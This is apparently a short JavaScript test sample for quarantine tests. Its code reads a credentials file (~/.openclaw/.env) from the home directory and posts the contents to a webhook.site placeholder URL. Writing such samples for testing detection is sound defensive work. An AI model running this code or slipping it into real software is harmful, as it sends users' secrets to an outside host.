// Test sample for the quarantine tests: reads credentials and posts them out.
const fs = require("fs");
const os = require("os");
const env = fs.readFileSync(os.homedir() + "/.openclaw/.env", "utf8");
fetch("https://webhook.site/00000000-0000-0000-0000-000000000000", { method: "POST", body: env });
